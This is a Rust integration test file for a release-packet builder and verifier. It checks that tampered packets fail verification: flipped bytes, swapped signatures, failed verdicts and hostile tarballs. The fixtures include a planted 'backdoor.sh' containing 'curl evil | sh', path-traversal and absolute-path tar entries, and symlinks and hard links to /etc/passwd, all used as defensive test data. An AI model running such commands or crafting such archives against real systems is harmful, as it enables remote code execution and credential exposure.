//! Release packets built and verified through the library: a good packet passes every check, and
//! each tampering of the matrix in issue 7 is caught by the check that names it. The 128 upstream
//! CycloneDX fixtures, sealed into otherwise good packets, are classified by verify's SBOM check.

use cavra_attestation::keys::{KeyType, SigningKey};
use cavra_attestation::signer::Signer;
use cavra_attestation::statement::{STATEMENT_TYPE, Statement, Subject};
use cavra_release::build::{BuildRequest, SbomInput, build, seal};
use cavra_release::digest::digest_reader;
use cavra_release::manifest::{FileEntry, Manifest, SHA256SUMS, SHA512SUMS, Source, sums_text};
use cavra_release::tarball::{Limits, pack};
use cavra_release::verdicts::Trust;
use cavra_release::verify::{Outcome, Report, Require, VerifyRequest, verify};
use cavra_sigstore::{Expect, PublicKey, TrustRoot};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use tar::{EntryType, Header};

const HEAD: &str = "1111111111111111111111111111111111111111";

fn signer() -> Signer {
    Signer::Key(SigningKey::generate(KeyType::Ed25519).unwrap())
}

fn trust(signer: &Signer) -> Trust {
    let Signer::Key(key) = signer else {
        unreachable!("key signers only")
    };
    Trust {
        signers: vec![Expect::Key(
            PublicKey::from_pem(&key.public_key_pem()).unwrap(),
        )],
        root: TrustRoot::public_good(),
    }
}

/// A gate verdict bundle for `head` saying `verdict`, signed by `signer`.
fn verdict_bundle(signer: &Signer, head: &str, verdict: &str) -> String {
    let statement = Statement {
        statement_type: STATEMENT_TYPE.into(),
        subject: vec![Subject {
            name: format!("commit:{head}"),
            digest: BTreeMap::from([("gitCommit".to_string(), head.to_string())]),
        }],
        predicate_type: cavra_attestation::verdict::PREDICATE_TYPE.into(),
        predicate: serde_json::json!({
            "verdict": verdict,
            "head": head,
            "mergeBase": "2222222222222222222222222222222222222222",
            "time": "2026-12-03T10:00:00Z",
        }),
    };
    signer.sign_statement(&statement).unwrap().json
}

struct Fixture {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    signer: Signer,
}

impl Fixture {
    fn new() -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().to_path_buf();
        fs::create_dir(root.join("in")).unwrap();
        fs::write(root.join("in/app.tar.gz"), vec![7u8; 300_000]).unwrap();
        fs::write(root.join("in/app.sig"), b"signature bytes\n").unwrap();
        fs::create_dir(root.join("verdicts")).unwrap();
        Fixture {
            _tmp: tmp,
            root,
            signer: signer(),
        }
    }

    fn add_verdict(&self, head: &str, verdict: &str) {
        let body = verdict_bundle(&self.signer, head, verdict);
        fs::write(
            self.root.join(format!("verdicts/{head}-{verdict}.json")),
            body,
        )
        .unwrap();
    }

    fn request(&self, out: &str) -> BuildRequest {
        BuildRequest {
            name: "app".into(),
            version: "1.2.3".into(),
            source: Source::default(),
            artifacts: vec![
                self.root.join("in/app.tar.gz"),
                self.root.join("in/app.sig"),
            ],
            sbom: SbomInput::Generate(Vec::new()),
            verdicts_dir: Some(self.root.join("verdicts")),
            verdict_trust: trust(&self.signer),
            range: None,
            repo: self.root.clone(),
            allow_uncovered: false,
            notes_template: None,
            out: self.root.join(out),
            time: "2026-12-03T10:00:00Z".into(),
            progress: false,
        }
    }

    /// A good packet with one passing verdict.
    fn packet(&self, out: &str) -> PathBuf {
        self.add_verdict(HEAD, "pass");
        build(&self.request(out), &self.signer).unwrap();
        self.root.join(out)
    }

    fn verify(&self, packet: &Path) -> Report {
        self.verify_with(packet, trust(&self.signer), false)
    }

    fn verify_with(&self, packet: &Path, signer: Trust, allow_uncovered: bool) -> Report {
        verify(&VerifyRequest {
            packet: packet.to_path_buf(),
            verdict_signer: trust(&self.signer),
            signer,
            require: Require::default(),
            allow_uncovered,
            limits: Limits::default(),
            progress: false,
            repo: None,
        })
        .unwrap()
    }
}

fn failed(report: &Report) -> Vec<String> {
    report.failures().map(|c| c.check.clone()).collect()
}

/// Copies a packet directory.
fn copy_packet(from: &Path, to: &Path) {
    for entry in walk(from) {
        let rel = entry.strip_prefix(from).unwrap();
        fs::create_dir_all(to.join(rel).parent().unwrap()).unwrap();
        fs::copy(&entry, to.join(rel)).unwrap();
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out.sort();
    out
}

fn read_manifest(dir: &Path) -> Manifest {
    Manifest::from_json(&fs::read(dir.join("packet.json")).unwrap()).unwrap()
}

fn restamp(dir: &Path, entry: &mut FileEntry) {
    let (size, sha256, sha512) =
        digest_reader(fs::File::open(dir.join(&entry.path)).unwrap()).unwrap();
    *entry = FileEntry {
        path: entry.path.clone(),
        size,
        sha256,
        sha512,
    };
}

/// What someone holding the signing key would do after changing files: new digests, new
/// checksum files, a new signature.
fn reseal(dir: &Path, signer: &Signer, edit: impl FnOnce(&mut Manifest)) {
    let mut m = read_manifest(dir);
    edit(&mut m);
    for a in &mut m.artifacts {
        restamp(dir, a);
    }
    restamp(dir, &mut m.sbom.file);
    for v in &mut m.verdicts {
        restamp(dir, &mut v.file);
    }
    let summed = || m.artifacts.iter().chain(std::iter::once(&m.sbom.file));
    fs::write(dir.join(SHA256SUMS), sums_text(summed(), false)).unwrap();
    fs::write(dir.join(SHA512SUMS), sums_text(summed(), true)).unwrap();
    for c in &mut m.checksums {
        restamp(dir, c);
    }
    restamp(dir, &mut m.notes);
    seal(dir, &m, signer).unwrap();
}

#[test]
fn a_good_packet_passes_every_check() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let report = f.verify(&packet);
    assert!(report.verified, "{}", report.to_text());
    let names: Vec<&str> = report.checks.iter().map(|c| c.check.as_str()).collect();
    for want in [
        "layout",
        "manifest",
        "signature",
        "statement",
        "artifact artifacts/app.tar.gz",
        "artifact artifacts/app.sig",
        "checksums SHA256SUMS",
        "checksums SHA512SUMS",
        "notes RELEASE.md",
        "sbom",
        "verdict 111111111111",
        "range",
        "complete",
        "extra",
    ] {
        assert!(names.contains(&want), "no {want} check in {names:?}");
    }
    assert!(report.checks.iter().all(|c| c.result == Outcome::Pass));
    let m = read_manifest(&packet);
    assert_eq!(m.verdicts.len(), 1);
    assert_eq!(
        m.verdicts[0].file.path,
        format!("verdicts/{HEAD}.sigstore.json")
    );
    assert_eq!(m.coverage.commits.len(), 1);
    // The Statement's subjects are the artifacts and the SBOM, by sha256 and sha512.
    let statement = cavra_release::build::statement(&m);
    let names: Vec<&str> = statement.subject.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(names, ["app.tar.gz", "app.sig", "sbom.cdx.json"]);
    assert_eq!(statement.subject[0].digest["sha256"], m.artifacts[0].sha256);
    // `sha256sum -c` format.
    let sums = fs::read_to_string(packet.join("SHA256SUMS")).unwrap();
    assert!(sums.contains(&format!("{}  artifacts/app.sig\n", m.artifacts[1].sha256)));
    // The notes list the artifacts and each commit with its verdict.
    let notes = fs::read_to_string(packet.join("RELEASE.md")).unwrap();
    for want in [
        "# app 1.2.3",
        "`artifacts/app.tar.gz` | 300000",
        "`111111111111`",
        "| direct |",
    ] {
        assert!(notes.contains(want), "{want:?} not in\n{notes}");
    }
    // The tarball verifies too, with the layout check saying it was one.
    let tar = f.root.join("pkt.tar.gz");
    pack(&packet, &tar, Some(6), &|_| {}).unwrap();
    let report = f.verify(&tar);
    assert!(report.verified, "{}", report.to_text());
    assert!(report.checks[0].detail.starts_with("tarball"));
}

/// The check each file's corruption must fail.
fn check_for(rel: &str) -> Vec<&'static str> {
    match rel {
        "packet.json" => vec!["manifest", "statement"],
        "packet.sigstore.json" => vec!["signature"],
        "sbom.cdx.json" => vec!["sbom"],
        "SHA256SUMS" => vec!["checksums SHA256SUMS"],
        "SHA512SUMS" => vec!["checksums SHA512SUMS"],
        "RELEASE.md" => vec!["notes RELEASE.md"],
        "artifacts/app.tar.gz" => vec!["artifact artifacts/app.tar.gz"],
        "artifacts/app.sig" => vec!["artifact artifacts/app.sig"],
        r if r.starts_with("verdicts/") => vec!["verdict 111111111111"],
        other => panic!("unexpected file {other}"),
    }
}

#[test]
fn every_file_with_one_byte_flipped_is_caught_by_its_check() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let files = walk(&packet);
    assert_eq!(files.len(), 9, "{files:?}");
    for (i, file) in files.iter().enumerate() {
        let rel = file
            .strip_prefix(&packet)
            .unwrap()
            .to_str()
            .unwrap()
            .to_string();
        for at in [0.5f64, 0.97] {
            let copy = f.root.join(format!("flip-{i}-{at}"));
            copy_packet(&packet, &copy);
            let target = copy.join(&rel);
            let mut bytes = fs::read(&target).unwrap();
            let pos = ((bytes.len() - 1) as f64 * at) as usize;
            bytes[pos] ^= 0x01;
            fs::write(&target, &bytes).unwrap();
            let report = f.verify(&copy);
            let failed = failed(&report);
            assert!(!report.verified, "{rel} flipped at {pos} verified");
            let want = check_for(&rel);
            assert!(
                failed.iter().any(|c| want.contains(&c.as_str())),
                "{rel} flipped at {pos}: failed {failed:?}, expected one of {want:?}\n{}",
                report.to_text()
            );
        }
    }
}

#[test]
fn missing_and_extra_files_are_named() {
    let f = Fixture::new();
    let packet = f.packet("pkt");

    let copy = f.root.join("removed");
    copy_packet(&packet, &copy);
    fs::remove_file(copy.join("artifacts/app.sig")).unwrap();
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["artifact artifacts/app.sig", "complete"]);
    assert!(report.to_text().contains("missing: artifacts/app.sig"));

    let copy = f.root.join("extra");
    copy_packet(&packet, &copy);
    fs::write(copy.join("artifacts/backdoor.sh"), "curl evil | sh\n").unwrap();
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["extra"]);
    assert!(report.to_text().contains("artifacts/backdoor.sh"));

    let copy = f.root.join("no-bundle");
    copy_packet(&packet, &copy);
    fs::remove_file(copy.join("packet.sigstore.json")).unwrap();
    assert_eq!(failed(&f.verify(&copy)), ["signature"]);
}

#[test]
fn an_edited_manifest_or_a_swapped_signature_fails_the_statement() {
    let f = Fixture::new();
    let packet = f.packet("pkt");

    // A valid manifest, edited: the signed predicate no longer matches.
    let copy = f.root.join("edited");
    copy_packet(&packet, &copy);
    let text = fs::read_to_string(copy.join("packet.json")).unwrap();
    fs::write(copy.join("packet.json"), text.replace("1.2.3", "1.2.4")).unwrap();
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["statement"]);
    assert!(report.to_text().contains("edited"));

    // The bundle of another packet, signed by the same trusted key.
    fs::write(f.root.join("in/app.sig"), b"other\n").unwrap();
    build(&f.request("other"), &f.signer).unwrap();
    let copy = f.root.join("swapped");
    copy_packet(&packet, &copy);
    fs::copy(
        f.root.join("other/packet.sigstore.json"),
        copy.join("packet.sigstore.json"),
    )
    .unwrap();
    assert_eq!(failed(&f.verify(&copy)), ["statement"]);
}

#[test]
fn a_packet_signed_by_an_untrusted_key_fails_the_signature() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let stranger = signer();
    let copy = f.root.join("resigned");
    copy_packet(&packet, &copy);
    reseal(&copy, &stranger, |_| {});
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["signature"], "{}", report.to_text());
    // The same packet checked against the stranger's key passes: only the signer was wrong.
    let report = f.verify_with(&copy, trust(&stranger), false);
    assert!(report.verified, "{}", report.to_text());
}

#[test]
fn a_failed_or_untrusted_verdict_fails_its_check() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let verdict_path = format!("verdicts/{HEAD}.sigstore.json");

    // Even resealed by the packet's own key, a `fail` verdict does not pass.
    let copy = f.root.join("failed-verdict");
    copy_packet(&packet, &copy);
    fs::write(
        copy.join(&verdict_path),
        verdict_bundle(&f.signer, HEAD, "fail"),
    )
    .unwrap();
    reseal(&copy, &f.signer, |_| {});
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["verdict 111111111111", "range"]);
    assert!(report.to_text().contains("the gate said `fail`"));

    // A passing verdict signed by a key not trusted for verdicts.
    let copy = f.root.join("untrusted-verdict");
    copy_packet(&packet, &copy);
    fs::write(
        copy.join(&verdict_path),
        verdict_bundle(&signer(), HEAD, "pass"),
    )
    .unwrap();
    reseal(&copy, &f.signer, |_| {});
    assert_eq!(failed(&f.verify(&copy)), ["verdict 111111111111", "range"]);

    // A verdict for another commit than the manifest says.
    let copy = f.root.join("other-commit");
    copy_packet(&packet, &copy);
    let other = "3333333333333333333333333333333333333333";
    fs::write(
        copy.join(&verdict_path),
        verdict_bundle(&f.signer, other, "pass"),
    )
    .unwrap();
    reseal(&copy, &f.signer, |_| {});
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["verdict 111111111111", "range"]);
    assert!(report.to_text().contains(&format!("judged {other}")));
}

#[test]
fn uncovered_commits_stop_the_build_or_are_recorded_and_reported() {
    let f = Fixture::new();
    f.add_verdict(HEAD, "pass");
    let failing = "4444444444444444444444444444444444444444";
    f.add_verdict(failing, "fail");
    let err = build(&f.request("pkt"), &f.signer).unwrap_err().to_string();
    assert!(err.contains(failing) && err.contains("`fail`"), "{err}");
    assert!(!f.root.join("pkt").exists());
    let leftovers: Vec<_> = fs::read_dir(&f.root)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains("partial"))
        .collect();
    assert!(leftovers.is_empty());

    let mut req = f.request("pkt");
    req.allow_uncovered = true;
    build(&req, &f.signer).unwrap();
    let m = read_manifest(&req.out);
    assert!(m.coverage.allow_uncovered);
    assert_eq!(m.verdicts.len(), 1, "the failing verdict is not packed");
    let report = f.verify(&req.out);
    assert_eq!(failed(&report), ["range"]);
    assert!(report.to_text().contains("--allow-uncovered"));
    let report = f.verify_with(&req.out, trust(&f.signer), true);
    assert!(report.verified);
    assert!(
        report
            .checks
            .iter()
            .any(|c| c.check == "range" && c.result == Outcome::Warn)
    );
}

/// A header whose name bytes are written as given (the `tar` crate refuses malicious names).
fn raw_header(name: &[u8], kind: EntryType, size: u64, link: &[u8]) -> Header {
    let mut h = Header::new_old();
    h.as_old_mut().name[..name.len()].copy_from_slice(name);
    h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_mtime(0);
    h.set_cksum();
    h
}

#[test]
fn hostile_tarballs_and_links_fail_the_layout_check() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let cases: [(&[u8], EntryType, &[u8], &str); 4] = [
        (b"../evil", EntryType::Regular, b"", "`..`"),
        (b"/tmp/evil", EntryType::Regular, b"", "absolute"),
        (
            b"artifacts/passwd",
            EntryType::Symlink,
            b"/etc/passwd",
            "symbolic link",
        ),
        (
            b"artifacts/hard",
            EntryType::Link,
            b"/etc/passwd",
            "hard link",
        ),
    ];
    for (name, kind, link, why) in cases {
        let mut b = tar::Builder::new(Vec::new());
        for file in walk(&packet) {
            let rel = file.strip_prefix(&packet).unwrap().to_str().unwrap();
            let body = fs::read(&file).unwrap();
            let h = raw_header(rel.as_bytes(), EntryType::Regular, body.len() as u64, b"");
            b.append(&h, body.as_slice()).unwrap();
        }
        let body: &[u8] = if kind == EntryType::Regular {
            b"evil\n"
        } else {
            b""
        };
        b.append(&raw_header(name, kind, body.len() as u64, link), body)
            .unwrap();
        let tar = f.root.join("hostile.tar");
        fs::write(&tar, b.into_inner().unwrap()).unwrap();
        let report = f.verify(&tar);
        assert_eq!(failed(&report), ["layout"], "{why}");
        assert!(
            report.checks[0].detail.contains(why),
            "{}",
            report.checks[0].detail
        );
        assert!(!f.root.join("evil").exists() && !Path::new("/tmp/evil").exists());
    }

    // A symlink inside a packet directory.
    let copy = f.root.join("linked");
    copy_packet(&packet, &copy);
    std::os::unix::fs::symlink("/etc/passwd", copy.join("artifacts/passwd")).unwrap();
    let report = f.verify(&copy);
    assert_eq!(failed(&report), ["layout"]);
    assert!(report.checks[0].detail.contains("/etc/passwd"));
}

#[test]
fn upstream_cyclonedx_fixtures_are_classified_by_the_sbom_check() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/cyclonedx/examples");
    let copy = f.root.join("sbom");
    copy_packet(&packet, &copy);
    let mut count = 0;
    let mut wrong = Vec::new();
    for v in ["1.5", "1.6"] {
        let mut paths: Vec<PathBuf> = fs::read_dir(fixtures.join(v))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        paths.sort();
        for path in paths {
            let name = path.file_name().unwrap().to_str().unwrap().to_string();
            let doc = fs::read(&path).unwrap();
            let spec = serde_json::from_slice::<serde_json::Value>(&doc)
                .ok()
                .and_then(|d| {
                    d.get("specVersion")
                        .and_then(|s| s.as_str())
                        .map(String::from)
                })
                .unwrap_or_else(|| v.to_string());
            fs::write(copy.join("sbom.cdx.json"), &doc).unwrap();
            reseal(&copy, &f.signer, |m| m.sbom.spec_version = spec);
            let report = f.verify(&copy);
            let failed = failed(&report);
            let ok = if name.starts_with("valid-") {
                failed.is_empty()
            } else {
                failed == ["sbom"]
            };
            if !ok {
                wrong.push(format!("{v}/{name}: failed {failed:?}"));
            }
            count += 1;
        }
    }
    assert_eq!(count, 128);
    assert!(wrong.is_empty(), "misclassified:\n{}", wrong.join("\n"));
}

#[test]
fn fuzz_mutated_packet_files_never_verify_or_panic() {
    let f = Fixture::new();
    let packet = f.packet("pkt");
    let tokens: &[&[u8]] = &[
        b"../",
        b"/etc/passwd",
        b"\"artifacts/x\"",
        b"\\u0000",
        b"99999999999999999999",
        b"{\"a\":",
        b"sha256",
        b"\"verdicts/",
    ];
    let targets = [
        "packet.json",
        "packet.sigstore.json",
        "SHA256SUMS",
        "sbom.cdx.json",
        &format!("verdicts/{HEAD}.sigstore.json"),
    ];
    let copy = f.root.join("fuzz");
    copy_packet(&packet, &copy);
    let mut rng = cavra_testkit::fuzz::Rng(0x05ee_d1e7);
    let mut refused = 0;
    for round in 0..cavra_testkit::fuzz::rounds(300) {
        let target = *rng.pick(&targets);
        let original = fs::read(packet.join(target)).unwrap();
        let mutated = cavra_testkit::fuzz::mutate(&mut rng, &original, tokens);
        fs::write(copy.join(target), &mutated).unwrap();
        let report = f.verify(&copy);
        let same = mutated == original
            || (target.ends_with(".json")
                && meaning(&mutated).is_some()
                && meaning(&mutated) == meaning(&original));
        assert!(
            same || !report.verified,
            "round {round}: a mutated {target} verified:\n{}",
            String::from_utf8_lossy(&mutated)
        );
        refused += usize::from(!report.verified);
        fs::write(copy.join(target), &original).unwrap();
    }
    assert!(refused > 0);
    assert!(f.verify(&copy).verified);
}

/// What a JSON file of the packet says, without what no signature covers: JSON whitespace and
/// key order, and a bundle's key hint and key id (hints, by the Sigstore bundle spec).
fn meaning(bytes: &[u8]) -> Option<serde_json::Value> {
    let mut v: serde_json::Value = serde_json::from_slice(bytes).ok()?;
    if let Some(pk) = v.pointer_mut("/verificationMaterial/publicKey") {
        pk.as_object_mut()?.remove("hint");
    }
    if let Some(sigs) = v.pointer_mut("/dsseEnvelope/signatures") {
        for sig in sigs.as_array_mut()? {
            sig.as_object_mut()?.remove("keyid");
        }
    }
    Some(v)
}

#[test]
fn verify_with_the_repository_walks_the_range_again() {
    let f = Fixture::new();
    let repo = cavra_tests::TestRepo::new();
    repo.write("README.md", "base\n");
    let base = repo.commit("base").to_string();
    repo.write("a.txt", "a\n");
    let first = repo.commit("first").to_string();
    repo.write("b.txt", "b\n");
    let second = repo.commit("second").to_string();
    fs::remove_dir_all(f.root.join("verdicts")).unwrap();
    fs::create_dir(f.root.join("verdicts")).unwrap();
    f.add_verdict(&first, "pass");
    f.add_verdict(&second, "pass");
    let mut req = f.request("pkt");
    req.range = Some(format!("{base}..{second}"));
    req.repo = repo.path().to_path_buf();
    build(&req, &f.signer).unwrap();

    let with_repo = |packet: &Path| {
        verify(&VerifyRequest {
            packet: packet.to_path_buf(),
            signer: trust(&f.signer),
            verdict_signer: trust(&f.signer),
            require: Require::default(),
            allow_uncovered: false,
            limits: Limits::default(),
            progress: false,
            repo: Some(repo.path().to_path_buf()),
        })
        .unwrap()
    };
    let report = with_repo(&req.out);
    assert!(report.verified, "{}", report.to_text());
    assert!(
        report
            .checks
            .iter()
            .any(|c| c.check == "history" && c.result == Outcome::Pass)
    );

    // The release key signed a manifest that leaves a commit out: only the repository shows it.
    let copy = f.root.join("short");
    copy_packet(&req.out, &copy);
    reseal(&copy, &f.signer, |m| {
        m.coverage.commits.retain(|c| c.commit == second);
        m.verdicts.retain(|v| v.commit == second);
    });
    fs::remove_file(copy.join(format!("verdicts/{first}.sigstore.json"))).unwrap();
    assert!(f.verify(&copy).verified, "the signed list alone looks fine");
    let report = with_repo(&copy);
    assert_eq!(failed(&report), ["history"], "{}", report.to_text());
}

#[test]
fn a_notes_template_replaces_the_built_in_one_and_its_errors_name_the_line() {
    let f = Fixture::new();
    f.add_verdict(HEAD, "pass");
    let mut req = f.request("pkt");
    req.notes_template = Some(
        "{{ name }} {{ version }}\n{% for c in changes %}{{ c.commit[:7] }} {{ c.how }}\n{% endfor %}"
            .into(),
    );
    build(&req, &f.signer).unwrap();
    let notes = fs::read_to_string(req.out.join("RELEASE.md")).unwrap();
    assert_eq!(notes, "app 1.2.3\n1111111 direct\n");
    assert!(f.verify(&req.out).verified);

    let mut req = f.request("bad");
    req.notes_template = Some("fine\n{{ no_such_variable }}\n".into());
    let err = build(&req, &f.signer).unwrap_err().to_string();
    assert!(err.contains("line 2") && err.contains("undefined"), "{err}");
    assert!(!req.out.exists());
}
